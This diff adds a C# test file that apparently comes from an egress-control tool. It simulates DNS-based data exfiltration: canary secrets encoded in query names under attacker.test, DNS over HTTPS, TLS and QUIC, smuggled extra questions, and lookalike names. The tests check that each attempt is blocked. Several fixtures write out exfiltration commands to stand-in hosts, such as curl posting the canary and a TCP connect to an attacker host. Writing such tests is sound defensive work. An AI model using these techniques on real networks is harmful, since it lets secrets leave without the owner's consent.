@@ -1,0 +1,219 @@
+namespace Sallyport.Kernel.Tests;
+
+/// <summary>Techniques D1 to D10 and D15: names as a way out.</summary>
+public sealed class DnsTests(LabFixture fixture) : KernelTest(fixture)
+{
+    private const string Long = "aaaaaaaaaabbbbbbbbbbccccccccccddddddddddeeeeeeeeeeffffffffff";
+
+    private string SecretName => $"{Canary}.attacker.test";
+
+    [Theory]
+    [EveryMode(Resolver, Resolver6)]
+    public Task A_secret_in_a_label_does_not_leave(LabMode mode, string resolver) =>
+        ProveAsync(mode, Asked(Command("dns", "ask", resolver, SecretName, "A"), SecretName, "A", "name"));
+
+    [Theory]
+    [EveryMode]
+    public Task A_name_of_255_bytes_does_not_leave(LabMode mode)
+    {
+        // 24 + 3 * 61 + 32 + 14 with their length bytes, and the root: 255 on the wire.
+        var name = $"{Canary}.{Long}.{Long}.{Long}.{Long[..30]}.attacker.test";
+        return ProveAsync(mode, Asked(Command("dns", "ask", Resolver, name, "A"), name, "A", "name"));
+    }
+
+    [Theory]
+    [EveryMode]
+    public Task Letters_in_mixed_case_are_the_same_name(LabMode mode)
+    {
+        var name = $"{Canary}.AtTaCkEr.TeSt";
+        return ProveAsync(
+            mode, Asked(Command("dns", "ask", Resolver, name, "A"), SecretName, "A", "name"));
+    }
+
+    [Theory]
+    [EveryMode("TXT", "NULL", "HTTPS", "ANY")]
+    public Task A_question_of_an_unlisted_type_does_not_leave(LabMode mode, string type)
+    {
+        var name = $"{Canary}.allowed.test";
+        return ProveAsync(mode, new Attack
+        {
+            Command = Command("dns", "ask", Resolver, name, type) with { Allow = ["*.allowed.test"] },
+            Row = Row.Either(
+                Row.Question(name, type), Row.Question(name, "TYPE10"), Row.Question(name, "TYPE65"),
+                Row.Question(name, "TYPE255")),
+            Reasons = ["question-type"],
+            Exe = "dns",
+        });
+    }
+
+    [Theory]
+    [EveryMode(PublicResolver, ForeignResolver, ForeignResolver6, CloudPlatform)]
+    public Task A_resolver_that_the_machine_does_not_name_is_a_destination_like_any_other(LabMode mode, string resolver) =>
+        ProveAsync(mode, new Attack
+        {
+            Command = Command("dns", "ask", resolver, SecretName, "A"),
+            Row = Row.Connection("udp", 53, resolver),
+            Reasons = ["no-rule"],
+            Exe = "dns",
+            Silent = (resolver, 53),
+        });
+
+    [Theory]
+    [EveryMode(PublicResolver, ForeignResolver6)]
+    public Task A_foreign_resolver_over_TCP_is_refused(LabMode mode, string resolver) =>
+        ProveAsync(mode, new Attack
+        {
+            Command = Command("dns", "ask", resolver, SecretName, "A", "tcp"),
+            Row = Row.Connection("tcp", 53, resolver),
+            Reasons = ["no-rule", "dns-tcp"],
+            Exe = "dns",
+            Silent = (resolver, 53),
+        });
+
+    [Theory]
+    [EveryMode("tcp", "bytes")]
+    public Task An_unlisted_name_over_TCP_does_not_leave(LabMode mode, string how) => ProveAsync(mode, Asked(
+        Command("dns", "ask", Resolver, SecretName, "A", how), SecretName, "A", "name", "dns-tcp"));
+
+    [Theory]
+    [EveryMode]
+    public Task An_unlisted_name_over_TCP_and_IPv6_does_not_leave(LabMode mode) => ProveAsync(mode, Asked(
+        Command("dns", "ask", Resolver6, SecretName, "A", "tcp"), SecretName, "A", "name", "dns-tcp"));
+
+    [Theory]
+    [EveryMode]
+    public Task DNS_over_HTTPS_is_a_destination_like_any_other(LabMode mode) => ProveAsync(mode, new Attack
+    {
+        Command = Command(
+            "curl", "-sS", "--max-time", "3", "--resolve", $"doh.test:443:{ForeignResolver}", "--data", Canary,
+            "https://doh.test/dns-query"),
+        Row = Row.Connection("tcp", 443, ForeignResolver),
+        Reasons = ["no-rule"],
+        Exe = "curl",
+        Silent = (ForeignResolver, 443),
+    });
+
+    [Theory]
+    [EveryMode(ForeignResolver, Resolver)]
+    public Task DNS_over_TLS_is_a_destination_like_any_other(LabMode mode, string resolver) => ProveAsync(mode, new Attack
+    {
+        Command = Command(
+            "curl", "-sS", "--max-time", "3", "--resolve", $"doh.test:853:{resolver}", $"https://doh.test:853/{Canary}"),
+        Row = Row.Connection("tcp", 853, resolver),
+        Reasons = ["no-rule"],
+        Exe = "curl",
+        Silent = (resolver, 853),
+    });
+
+    [Theory]
+    [EveryMode("853", "443", "784")]
+    public Task DNS_over_QUIC_and_DNSCrypt_are_datagrams_like_any_other(LabMode mode, string port) =>
+        ProveAsync(mode, new Attack
+        {
+            Command = Command("udp", "sendto", Resolver, port, Canary),
+            Row = Row.Connection("udp", int.Parse(port, System.Globalization.CultureInfo.InvariantCulture), Resolver),
+            Reasons = ["no-rule"],
+            Exe = "udp",
+        });
+
+    [Theory]
+    [EveryMode]
+    public async Task A_stub_on_loopback_is_no_way_around(LabMode mode)
+    {
+        using var stub = Lab.Start("dns", "stub", "127.0.0.53", Resolver);
+        await stub.SaysAsync("listening", TimeSpan.FromSeconds(5));
+        await ProveAsync(mode, new Attack
+        {
+            Command = Command("dns", "ask", "127.0.0.53", SecretName, "A"),
+            Row = Row.Either(Row.Question(SecretName, "A"), Row.Connection("udp", 53, "127.0.0.53")),
+            Reasons = ["name", "no-rule"],
+            Exe = "dns",
+        });
+    }
+
+    [Theory]
+    [EveryMode]
+    public Task A_second_question_in_the_message_does_not_ride_along(LabMode mode) => ProveAsync(mode, new Attack
+    {
+        Command = Command("dns", "two", Resolver, "allowed.test", SecretName),
+        Row = Row.AnyQuestion(),
+        Reasons = ["question-count"],
+        Exe = "dns",
+    });
+
+    [Theory]
+    [EveryMode]
+    public Task Bytes_behind_the_question_do_not_ride_along(LabMode mode) => ProveAsync(mode, new Attack
+    {
+        Command = Command("dns", "trailing", Resolver, "allowed.test", Canary),
+        Row = Row.AnyQuestion(),
+        Reasons = ["dns-malformed"],
+        Exe = "dns",
+    });
+
+    [Theory]
+    [EveryMode]
+    public Task A_dot_inside_a_label_is_no_label_boundary(LabMode mode)
+    {
+        // One label `CANARY.allowed` below the zone `test`, which is not *.allowed.test.
+        return ProveAsync(mode, new Attack
+        {
+            Command = Command("dns", "ask", Resolver, $"{Canary}\\046allowed.test", "A") with
+            {
+                Allow = ["*.allowed.test"],
+            },
+            Row = Row.AnyQuestion(),
+            Reasons = ["dns-malformed", "name"],
+            Exe = "dns",
+        });
+    }
+
+    [Theory]
+    [EveryMode("evilallowed.test", "allowed.test.attacker.test")]
+    public Task A_name_that_only_contains_an_allowed_one_is_another_name(LabMode mode, string name) =>
+        ProveAsync(mode, new Attack
+        {
+            Command = Command("dns", "ask", Resolver, name, "A") with { Allow = ["allowed.test", "*.allowed.test"] },
+            Arrived = run => run.Traffic.Contains(name),
+            Row = Row.Question(name, "A"),
+            Reasons = ["name"],
+            Exe = "dns",
+        });
+
+    [Theory]
+    [EveryMode]
+    public Task A_reverse_name_gives_an_address_nothing(LabMode mode) => ProveAsync(mode, new Attack
+    {
+        Command = Script(
+            $"{Program("dns")} ask {Resolver} 66.100.51.198.in-addr.arpa PTR || true",
+            $"exec {Program("tcp")} connect {Attacker} 4443 {Canary}") with
+        {
+            Allow = ["allowed.test:4443", "dns://66.100.51.198.in-addr.arpa"],
+        },
+        Row = Row.Connection("tcp", 4443, Attacker),
+        Reasons = ["no-rule", "no-lease"],
+        Exe = "tcp",
+        Silent = (Attacker, 4443),
+    });
+
+    [Fact]
+    public async Task Many_new_names_below_an_allowed_wildcard_are_a_finding()
+    {
+        var run = await Lab.RunAsync(LabMode.Block, Command("dns", "burst", Resolver, "200", "allowed.test") with
+        {
+            Allow = ["*.allowed.test"],
+        });
+        Assert.Equal("200 answered\n", run.Process.Output);
+        Assert.True(
+            run.Report.Findings.Any(f => f.Id.StartsWith("dns-", StringComparison.Ordinal)),
+            $"200 names that nobody asked before, and no finding says so.\n{run}");
+    }
+
+    private static Attack Asked(LabCommand command, string name, string type, params string[] reasons) => new()
+    {
+        Command = command,
+        Row = Row.Question(name, type),
+        Reasons = [.. reasons],
+        Exe = "dns",
+    };
+}
